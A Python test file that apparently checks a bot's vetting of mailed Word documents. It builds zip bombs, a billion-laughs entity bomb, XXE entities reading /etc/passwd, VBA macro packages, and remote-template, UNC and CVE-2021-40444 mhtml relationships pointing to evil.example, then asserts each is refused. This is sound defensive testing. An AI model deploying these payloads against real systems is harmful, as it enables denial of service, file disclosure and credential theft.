"""Hostile and broken files: whatever arrives by mail, `check` answers quickly,
within bounded memory, and tells the porteur what to send instead.

Every input is built here, at test time, in a temporary folder: a minimal .docx
written by hand, then broken or weaponised one way at a time, so that each test
differs from a readable document by exactly the thing it is about.
"""

from __future__ import annotations

import io
import json
import random
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from bot.form.check import check_bytes
from bot.rules import load_rules

REPO = Path(__file__).resolve().parents[2]

# -- a minimal .docx, by hand ---------------------------------------------------
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
PARAGRAPHS = ("Compte rendu de la réunion du 3 mars", "Ce document n'est pas une fiche projet.")


def document_xml(paragraphs=PARAGRAPHS, *, doctype: str = "") -> str:
    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>" for text in paragraphs)
    return f'{XML_DECL}{doctype}<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'


def content_types(main_part: str = "/word/document.xml", main_type: str = DOCX_MAIN, extra: str = "") -> str:
    return (
        f'{XML_DECL}<Types xmlns="{CT_NS}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def relationships(*rels: str) -> str:
    return f'{XML_DECL}<Relationships xmlns="{RELS_NS}">{"".join(rels)}</Relationships>'


def relationship(rid: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL_TYPES}/{kind}" Target="{target}"{mode}/>'


def docx_parts(*, main_type: str = DOCX_MAIN, document_rels: tuple[str, ...] = ()) -> dict[str, str | bytes]:
    """The parts of a small, valid Word document that is not a fiche projet."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types(main_type=main_type),
        "_rels/.rels": relationships(relationship("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": document_xml(),
    }
    if document_rels:
        parts["word/_rels/document.xml.rels"] = relationships(*document_rels)
    return parts


def build_zip(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            zf.writestr(name, content.encode("utf-8") if isinstance(content, str) else content)
    return out.getvalue()


def make_docx(**kwargs) -> bytes:
    return build_zip(docx_parts(**kwargs))


def patch_entry(data: bytes, name: str, *, set_flags: int = 0, file_size: int | None = None) -> bytes:
    """Rewrite what a (non-zip64) archive declares about one entry, in its local
    header and in the central directory, leaving the compressed data as it is."""
    buf = bytearray(data)
    end = buf.rfind(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<HII", buf, end + 10)
    pos, encoded = cd_offset, name.encode()
    for _ in range(count):
        assert buf[pos : pos + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", buf, pos + 28)
        if bytes(buf[pos + 46 : pos + 46 + name_len]) == encoded:
            (local,) = struct.unpack_from("<I", buf, pos + 42)
            assert buf[local : local + 4] == b"PK\x03\x04"
            for flags_at, size_at in ((pos + 8, pos + 24), (local + 6, local + 22)):
                (flags,) = struct.unpack_from("<H", buf, flags_at)
                struct.pack_into("<H", buf, flags_at, flags | set_flags)
                if file_size is not None:
                    struct.pack_into("<I", buf, size_at, file_size)
            return bytes(buf)
        pos += 46 + name_len + extra_len + comment_len
    raise AssertionError(f"no entry {name} in the archive")


def ole_container(*streams: str) -> bytes:
    """Enough of a compound file (OLE2) to be recognised: the magic, then junk
    with the given stream names where the directory would hold them."""
    rng = random.Random(1)
    junk = bytes(rng.randrange(256) for _ in range(1024))
    names = b"".join(s.encode("utf-16-le") + b"\x00\x00" for s in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk + names + junk


# -- checking -----------------------------------------------------------------
@pytest.fixture(scope="module")
def messages() -> dict[str, str]:
    return load_rules().file_findings["fichier_illisible"]["messages"]


def saved(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def check_file(path: Path):
    return check_bytes(path.read_bytes())


def assert_refused(result, messages, reasons: str | set[str], *, password_advice: bool = True) -> None:
    """Illisible, with one error finding that names the problem and says what to send instead."""
    reasons = {reasons} if isinstance(reasons, str) else reasons
    assert result.kind == "illisible"
    assert len(result.findings) == 1, result.findings
    (finding,) = result.findings
    assert finding.code == "fichier_illisible"
    assert finding.severity == "error"
    assert finding.message in {messages[r] for r in reasons}, finding.message
    assert "format Word .docx" in finding.message
    if password_advice:
        assert "sans mot de passe" in finding.message
    assert not result.valid


def assert_readable(result) -> None:
    assert result.kind == "inconnu", result.findings
    assert [f.code for f in result.findings] == ["fiche_non_reconnue"]


# -- the baseline the hostile files are derived from ---------------------------
def test_the_hand_built_docx_is_read_as_a_document_that_is_not_a_fiche(tmp_path):
    assert_readable(check_file(saved(tmp_path, "compte-rendu.docx", make_docx())))


# -- not a .docx at all -------------------------------------------------------
def test_a_binary_doc_is_refused_with_advice_to_save_as_docx(tmp_path, messages):
    path = saved(tmp_path, "fiche.doc.docx", ole_container("WordDocument", "1Table", "SummaryInformation"))
    assert_refused(check_file(path), messages, "doc")


def test_a_password_protected_docx_is_refused_as_encrypted(tmp_path, messages):
    path = saved(tmp_path, "protege.docx", ole_container("EncryptionInfo", "EncryptedPackage"))
    assert_refused(check_file(path), messages, "encrypted")


def test_a_pdf_is_refused_as_a_pdf(tmp_path, messages):
    pdf = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    assert_refused(check_file(saved(tmp_path, "fiche.pdf.docx", pdf)), messages, "pdf")


def test_a_docx_cut_in_half_is_refused_as_damaged(tmp_path, messages):
    whole = make_docx()
    path = saved(tmp_path, "coupe.docx", whole[: len(whole) // 2])
    assert_refused(check_file(path), messages, "damaged")


def test_an_empty_file_is_refused_as_empty(tmp_path, messages):
    assert_refused(check_file(saved(tmp_path, "vide.docx", b"")), messages, "empty")


def test_a_file_of_only_whitespace_is_refused_as_empty(tmp_path, messages):
    assert_refused(check_file(saved(tmp_path, "blanc.docx", b" \t\r\n" * 256)), messages, "empty")


def test_random_bytes_are_refused_as_damaged(tmp_path, messages):
    rng = random.Random(20260901)
    noise = bytes(rng.randrange(256) for _ in range(64 * 1024))
    assert not noise.startswith((b"PK", b"\xd0\xcf", b"%PDF")) and noise.strip()
    assert_refused(check_file(saved(tmp_path, "bruit.docx", noise)), messages, "damaged")


# -- zip bombs and other resource attacks -------------------------------------
BOMB_PAYLOAD = 200 * 1024 * 1024  # bytes of a single repeated character
CHUNK = b"A" * (1024 * 1024)


def _write_bomb(path: Path, *, force_zip64: bool) -> None:
    """A valid .docx whose word/document.xml inflates to more than 200 MB,
    streamed into the archive chunk by chunk (about 0.2 MB on disk)."""
    parts = docx_parts()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in parts.items():
            if name != "word/document.xml":
                zf.writestr(name, content)
        with zf.open("word/document.xml", "w", force_zip64=force_zip64) as f:
            f.write(f'{XML_DECL}<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode())
            for _ in range(BOMB_PAYLOAD // len(CHUNK)):
                f.write(CHUNK)
            f.write(b"</w:t></w:r></w:p></w:body></w:document>")


@pytest.fixture(scope="module")
def bombs(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bombs")

    ratio = folder / "bombe-ratio.docx"
    _write_bomb(ratio, force_zip64=True)

    # Same bomb, but the archive claims word/document.xml is a kilobyte.
    liar = folder / "bombe-menteuse.docx"
    _write_bomb(liar, force_zip64=False)
    liar.write_bytes(patch_entry(liar.read_bytes(), "word/document.xml", file_size=1000))

    crowd = folder / "foule.docx"
    crowd.write_bytes(build_zip({**docx_parts(), **{f"word/media/vide{i}.txt": b"" for i in range(2001)}}))

    # "Billion laughs": &lol9; would expand to 10**9 times "lol".
    laughs = '<!ENTITY lol0 "lol">'
    for i in range(1, 10):
        laughs += f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">'
    entity = folder / "rires.docx"
    parts = docx_parts()
    parts["word/document.xml"] = document_xml(("&lol9;",), doctype=f"<!DOCTYPE lolz [{laughs}]>")
    entity.write_bytes(build_zip(parts))
    return {"ratio": ratio, "liar": liar, "entries": crowd, "entities": entity}


def test_the_bombs_are_small_on_disk(bombs):
    assert all(path.stat().st_size < 1024 * 1024 for path in bombs.values())
    with zipfile.ZipFile(bombs["ratio"]) as zf:
        assert zf.getinfo("word/document.xml").file_size >= BOMB_PAYLOAD
    with zipfile.ZipFile(bombs["liar"]) as zf:
        info = zf.getinfo("word/document.xml")
        assert info.file_size == 1000 and info.compress_size > 100_000


def test_a_zip_bomb_by_compression_ratio_is_refused(bombs, messages):
    assert_refused(check_file(bombs["ratio"]), messages, {"damaged", "too_large"})


def test_a_zip_bomb_whose_central_directory_lies_about_its_size_is_refused(bombs, messages):
    assert_refused(check_file(bombs["liar"]), messages, {"damaged", "too_large"})


def test_a_zip_with_too_many_entries_is_refused(bombs, messages):
    assert_refused(check_file(bombs["entries"]), messages, "damaged")


def test_an_entity_bomb_is_refused_as_damaged(bombs, messages):
    assert_refused(check_file(bombs["entities"]), messages, "damaged")


BOMB_IDS = ["ratio", "liar", "entries", "entities"]


@pytest.mark.parametrize("bomb", BOMB_IDS)
def test_a_bomb_through_the_cli_exits_2_quickly_with_json_and_no_traceback(bombs, bomb):
    start = time.perf_counter()
    run = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(bombs[bomb]), "--json"],
        cwd=REPO, capture_output=True, text=True, timeout=30,
    )
    elapsed = time.perf_counter() - start
    assert "Traceback" not in run.stderr, run.stderr
    assert run.returncode == 2, (run.returncode, run.stdout, run.stderr)
    result = json.loads(run.stdout)
    assert result["kind"] == "illisible"
    assert [f["code"] for f in result["findings"]] == ["fichier_illisible"]
    assert result["valid"] is False
    assert elapsed < 2, f"{elapsed:.2f} s"


# The child reports its own peak resident memory. On Linux, ru_maxrss is not
# enough: a child started by vfork+exec inherits the parent's peak (pytest's,
# which may have been high), so the peak of the child's own address space
# (VmHWM) is read instead; ru_maxrss is the fallback elsewhere.
MEASURE = (
    "import re, resource, sys\n"
    "from bot.form.check import check_bytes\n"
    "r = check_bytes(open(sys.argv[1], 'rb').read())\n"
    "peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * (1 if sys.platform == 'darwin' else 1024)\n"
    "try:\n"
    "    peak = int(re.search(r'VmHWM:\\s*(\\d+) kB', open('/proc/self/status').read()).group(1)) * 1024\n"
    "except (OSError, AttributeError):\n"
    "    pass\n"
    "print(r.kind, peak)\n"
)


@pytest.mark.parametrize("bomb", BOMB_IDS)
def test_a_bomb_is_checked_in_less_than_200_mb_of_memory(bombs, bomb):
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, str(bombs[bomb])],
        cwd=REPO, capture_output=True, text=True, timeout=30,
    )
    assert run.returncode == 0, run.stderr
    kind, peak = run.stdout.split()
    assert kind == "illisible"
    assert int(peak) < 200 * 1024 * 1024, f"peak RSS {int(peak) // 2**20} MiB"


# -- encrypted parts, XML tricks ----------------------------------------------
def test_a_zip_entry_with_the_encryption_flag_is_refused_as_encrypted(tmp_path, messages):
    data = patch_entry(make_docx(), "word/document.xml", set_flags=0x1)
    assert_refused(check_file(saved(tmp_path, "chiffre.docx", data)), messages, "encrypted")


def test_an_external_entity_is_refused_and_never_resolved(tmp_path, messages):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET-CONTENT\n")
    parts = docx_parts()
    parts["word/document.xml"] = document_xml(
        ("&xxe;", "&passwd;"),
        doctype=(
            f'<!DOCTYPE d [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
            '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
        ),
    )
    result = check_file(saved(tmp_path, "xxe.docx", build_zip(parts)))
    assert_refused(result, messages, "damaged")
    assert "SECRET-CONTENT" not in repr(result) and "root:" not in repr(result)


# -- other kinds of Office documents -------------------------------------------
def test_a_macro_enabled_document_is_refused_as_macros(tmp_path, messages):
    parts = docx_parts(main_type=DOCM_MAIN, document_rels=(
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
    ))
    parts["word/vbaProject.bin"] = ole_container("VBA", "PROJECT", "dir")
    result = check_file(saved(tmp_path, "fiche.docm", build_zip(parts)))
    assert_refused(result, messages, "macros", password_advice=False)


def test_a_vba_project_in_a_plain_docx_is_refused_as_macros(tmp_path, messages):
    parts = docx_parts()
    parts["word/vbaProject.bin"] = ole_container("VBA", "PROJECT", "dir")
    result = check_file(saved(tmp_path, "fiche.docx", build_zip(parts)))
    assert_refused(result, messages, "macros", password_advice=False)


def test_an_xlsx_renamed_docx_is_refused_as_another_office_document(tmp_path, messages):
    parts = {
        "[Content_Types].xml": content_types("/xl/workbook.xml", XLSX_MAIN),
        "_rels/.rels": relationships(relationship("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{XML_DECL}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<sheets><sheet name="Budget" sheetId="1"/></sheets></workbook>'
        ),
    }
    assert_refused(check_file(saved(tmp_path, "budget.docx", build_zip(parts))), messages, "other_office")


# -- external relationships -----------------------------------------------------
def test_a_template_fetched_from_the_network_is_refused_as_external(tmp_path, messages):
    rel = relationship("rId9", "attachedTemplate", "http://evil.example/t.dotm", external=True)
    data = make_docx(document_rels=(rel,))
    assert_refused(check_file(saved(tmp_path, "modele-distant.docx", data)), messages, "external")


@pytest.mark.parametrize(
    "kind, target",
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("image", "http://evil.example/pixel.png"),
        ("attachedTemplate", r"\\evil.example\share\t.dotm"),
        ("attachedTemplate", "//evil.example/share/t.dotm"),
        ("attachedTemplate", "file://evil.example/share/t.dotm"),
        # A UNC path written as a file: URL: Windows connects to the share (and sends credentials).
        ("attachedTemplate", "file:////evil.example/share/t.dotm"),
        ("attachedTemplate", r"file:///\\evil.example\share\t.dotm"),
        ("attachedTemplate", "file:///%5C%5Cevil.example%5Cshare%5Ct.dotm"),
        ("attachedTemplate", "file://localhost//evil.example/share/t.dotm"),
        # CVE-2021-40444: an OLE object fetched through the mhtml: handler.
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ("attachedTemplate", "ms-word:ofe|u|http://evil.example/t.dotm"),
    ],
)
def test_other_ways_of_fetching_from_the_network_are_refused_as_external(tmp_path, messages, kind, target):
    data = make_docx(document_rels=(relationship("rId9", kind, target, external=True),))
    assert_refused(check_file(saved(tmp_path, "distant.docx", data)), messages, "external")


def test_a_relationships_part_is_checked_whatever_the_case_of_its_name(tmp_path, messages):
    # Part names are case-insensitive in a Word package (OPC): Word reads this one.
    parts = docx_parts()
    parts["word/_rels/document.xml.RELS"] = relationships(
        relationship("rId9", "attachedTemplate", "http://evil.example/t.dotm", external=True)
    )
    assert_refused(check_file(saved(tmp_path, "majuscules.docx", build_zip(parts))), messages, "external")


@pytest.mark.parametrize(
    "target", ["mailto:camille.martin@example.org", "https://www.lievin.fr/cite-educative"]
)
def test_a_hyperlink_to_mail_or_web_stays_readable(tmp_path, target):
    data = make_docx(document_rels=(relationship("rId9", "hyperlink", target, external=True),))
    assert_readable(check_file(saved(tmp_path, "liens.docx", data)))


@pytest.mark.parametrize(
    "target",
    [
        r"file:///C:\Users\x\Templates\Normal.dotx",
        "file:///C:/Users/x/AppData/Roaming/Microsoft/Templates/Normal.dotm",
        "file://localhost/C:/Users/x/Templates/Normal.dotx",
        r"C:\Users\x\Templates\Normal.dotx",
        # Word for Mac
        "file:///Users/camille/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/"
        "Templates.localized/Normal.dotm",
    ],
)
def test_a_template_on_the_porteurs_own_disk_stays_readable(tmp_path, target):
    data = make_docx(document_rels=(relationship("rId9", "attachedTemplate", target, external=True),))
    assert_readable(check_file(saved(tmp_path, "modele-local.docx", data)))


def test_a_picture_linked_by_a_relative_path_stays_readable(tmp_path):
    data = make_docx(document_rels=(relationship("rId9", "image", "images/logo.png", external=True),))
    assert_readable(check_file(saved(tmp_path, "image-liee.docx", data)))
